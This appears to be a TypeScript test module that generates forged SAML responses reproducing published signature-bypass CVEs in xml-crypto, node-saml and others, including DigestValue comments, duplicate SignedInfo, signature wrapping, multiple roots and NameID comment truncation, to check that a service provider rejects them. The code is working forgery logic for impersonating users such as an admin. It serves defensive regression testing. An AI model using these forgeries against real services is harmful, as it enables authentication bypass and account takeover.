import { buildSamlResponseXml, randomSamlId, resolveOptions, toSamlResponse } from '../response.ts';
import {
  child,
  descendants,
  digestOf,
  el,
  NS,
  serializeXml,
  setText,
  signElement,
  type XElement,
} from '../xml.ts';
import {
  type AttackOptions,
  evilCopy,
  evilNameIdOf,
  finish,
  genuine,
  impersonate,
  statusDetail,
  unsignedCopy,
} from './shared.ts';

/*
 * The shapes of published advisories against Node SAML libraries (xml-crypto, node-saml) and
 * the 2018 comment-truncation family. node-saml 5.1 and xml-crypto 6.0.1+ carry the fixes;
 * these keep the SP honest if either is ever downgraded, replaced or wrapped.
 */

/** Puts `<!--digest of element as it is now-->` first in the DigestValue of element's Signature. */
function commentForgedDigest(element: XElement) {
  const digestValue = descendants(child(element, NS.ds, 'Signature'), NS.ds, 'DigestValue')[0]!;
  const comment = element.ownerDocument.createComment(digestOf(element));
  digestValue.insertBefore(comment, digestValue.firstChild);
}

/**
 * CVE-2025-29775 (xml-crypto before 6.0.1, "DigestValue comment", GHSA-x3m8-899r-f7c3):
 * the NameID of a response signed twice is changed, and the digest of the changed content is put
 * in a comment at the start of each DigestValue. SignedInfo is canonicalized without comments,
 * so both SignatureValues still verify; a verifier that reads the DigestValue's first child
 * compares against the attacker's digest and accepts. A correct one reads the text only.
 */
export function digestValueComment(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: true });
  impersonate(assertion, evilNameIdOf(opts));
  commentForgedDigest(assertion);
  commentForgedDigest(response); // after the assertion's, which its digest covers
  return finish(doc);
}

/**
 * The evil assertion (new ID) carrying the original Signature, the original content parked in a
 * ds:Object inside it, and a forged SignedInfo whose Reference points at the evil assertion with
 * the evil assertion's digest. `wrap` puts the forged SignedInfo in a foreign element before
 * the genuine one instead of after it.
 */
function forgedSignedInfo(opts: AttackOptions, wrap: boolean) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  const original = unsignedCopy(assertion);
  const signature = child(assertion, NS.ds, 'Signature');
  assertion.removeChild(signature);
  const evil = evilCopy(assertion, opts);
  evil.insertBefore(signature, child(evil, NS.saml, 'Issuer').nextSibling);
  signature.appendChild(el(doc, NS.ds, 'ds:Object', {}, original));
  response.replaceChild(evil, assertion);

  const genuineSignedInfo = child(signature, NS.ds, 'SignedInfo');
  const forged = genuineSignedInfo.cloneNode(true) as XElement;
  const reference = child(forged, NS.ds, 'Reference');
  reference.setAttribute('URI', `#${evil.getAttribute('ID')}`);
  setText(child(reference, NS.ds, 'DigestValue'), digestOf(evil));
  if (wrap) {
    const wrapper = el(doc, 'urn:example:attacker', 'x:Wrapper', {}, forged);
    signature.insertBefore(wrapper, genuineSignedInfo);
  } else {
    signature.insertBefore(forged, genuineSignedInfo.nextSibling);
  }
  return finish(doc);
}

/**
 * CVE-2025-29774 (xml-crypto before 6.0.1, "multiple SignedInfo", GHSA-9p8x-f768-wp2g):
 * a second SignedInfo in the Signature references the evil assertion with its digest, while the
 * SignatureValue is checked against the first, genuine SignedInfo (whose reference resolves to
 * the original content, parked in a ds:Object). A Signature must have exactly one SignedInfo.
 * node-saml 5.1 refuses it before xml-crypto looks: the Signature holds more than two Transforms.
 */
export const multipleSignedInfo = (opts: AttackOptions) => forgedSignedInfo(opts, false);

/**
 * CVE-2025-29774, the wrapped variant (xml-crypto's saml_wrapped_signed_info_node fixture): the
 * forged SignedInfo is nested in a foreign element before the genuine one, for verifiers that
 * collect references with a descendant search (`.//SignedInfo/Reference`).
 */
export const wrappedSignedInfo = (opts: AttackOptions) => forgedSignedInfo(opts, true);

/**
 * CVE-2025-54419 (node-saml 5.0.1, GHSA-4mxg-3p6v-xgq3) and CVE-2025-54369 (node-saml ≤ 5.0.1,
 * GHSA-m837-g268-mmv7), the class: the signed assertion that gets verified is not the one that
 * gets processed. The intact, validly signed original sits in Status/StatusDetail (a place that
 * takes any content); the Response's own Assertion is an unsigned evil copy. Fixed in node-saml
 * 5.1 by processing only the bytes xml-crypto verified (getSignedReferences). The advisories
 * published no exploit; this is the shape they describe.
 */
export function signedAssertionElsewhere(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  response.replaceChild(evilCopy(assertion, opts), assertion);
  statusDetail(doc, response).appendChild(assertion);
  return finish(doc);
}

/**
 * A valid IdP signature inside the processed assertion whose Reference URI points at a
 * different element (the verified-versus-processed class of CVE-2025-54369 / CVE-2025-54419):
 * the evil assertion (new ID) keeps the original Signature; the element it references, the
 * original content without its signature, is parked in Status/StatusDetail. A signature must
 * reference its own parent element.
 */
export function referenceToOtherElement(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  const original = unsignedCopy(assertion);
  assertion.setAttribute('ID', randomSamlId());
  impersonate(assertion, evilNameIdOf(opts));
  statusDetail(doc, response).appendChild(original);
  return finish(doc);
}

/**
 * CVE-2022-39299 (passport-saml < 3.2.2, node-saml < 4.0.0-beta.5: GHSA-m974-647v-whv7,
 * GHSA-5p8w-2mvw-38pv, "signature bypass via multiple root elements"): any IdP-signed message
 * (here a signed error Response, which has no assertion to check) followed by a second root
 * element, an unsigned evil Assertion. Not well-formed XML: a parser that stops at the first
 * root verifies the signed part while another reader finds the assertion.
 */
export function multipleRootElements(opts: AttackOptions) {
  const o = resolveOptions(opts);
  const signedError = buildSamlResponseXml({
    ...o,
    status: { code: 'Responder', subCode: 'AuthnFailed' },
    signResponse: true,
  });
  const { assertion } = genuine(opts, { assertion: false, response: false });
  impersonate(assertion, evilNameIdOf(opts));
  return toSamlResponse(signedError + serializeXml(assertion));
}

/**
 * An empty-URI reference: the Response's signature is genuinely the IdP's and verifies, but its
 * Reference has URI="" (the whole document) instead of "#" + the Response's ID, which SAML
 * requires (SAML core §5.4.2). An SP must bind every signature to the element it protects by
 * ID; "whatever the document root is" is not that, and xml-crypto resolves "" to the root.
 */
export function emptyUriReference(opts: AttackOptions) {
  const o = resolveOptions(opts);
  const xml = buildSamlResponseXml({ ...o, signAssertion: true, signResponse: false });
  const signer = {
    privateKeyPem: o.keys.privateKeyPem,
    keyInfoCertificatePem: o.keys.certificatePem,
  };
  return toSamlResponse(signElement(xml, o.responseId, { ...signer, emptyUri: true }));
}

/** Splits the text of `element` with an empty comment after `visible`. */
function splitWithComment(element: XElement, visible: string) {
  const doc = element.ownerDocument;
  const text = element.textContent ?? '';
  if (!text.startsWith(visible)) return;
  setText(element, visible);
  element.appendChild(doc.createComment(''));
  element.appendChild(doc.createTextNode(text.slice(visible.length)));
}

/**
 * NameID comment truncation (Duo Security, February 2018, CERT VU#475445: CVE-2017-11427
 * python-saml, CVE-2017-11428 ruby-saml, CVE-2017-11429 saml2-js, CVE-2017-11430 OmniAuth-SAML,
 * CVE-2018-0489 Shibboleth, CVE-2018-5387, CVE-2018-7340). The attacker owns the IdP account
 * `<evil>.attacker.example`; in its genuine, twice-signed response a comment goes into the
 * NameID and email: `admin@roomscale.test<!---->.attacker.example`. Canonicalization drops
 * comments, so both signatures stay valid; an SP that reads only the first text node sees
 * `admin@roomscale.test`. The SP must read the whole text (node-saml's profile does) or refuse.
 */
export function nameIdCommentTruncation(opts: AttackOptions) {
  const visible = evilNameIdOf(opts);
  const owned = `${visible}.attacker.example`;
  const { doc, assertion } = genuine(
    { ...opts, nameId: owned, attributes: { email: owned } },
    {
      assertion: true,
      response: true,
    },
  );
  for (const e of [
    ...descendants(assertion, NS.saml, 'NameID'),
    ...descendants(assertion, NS.saml, 'AttributeValue'),
  ]) {
    splitWithComment(e, visible);
  }
  return finish(doc);
}

/** The NameID the IdP really signed in `nameIdCommentTruncation`. */
export const commentTruncationSignedNameId = (opts: AttackOptions) =>
  `${evilNameIdOf(opts)}.attacker.example`;
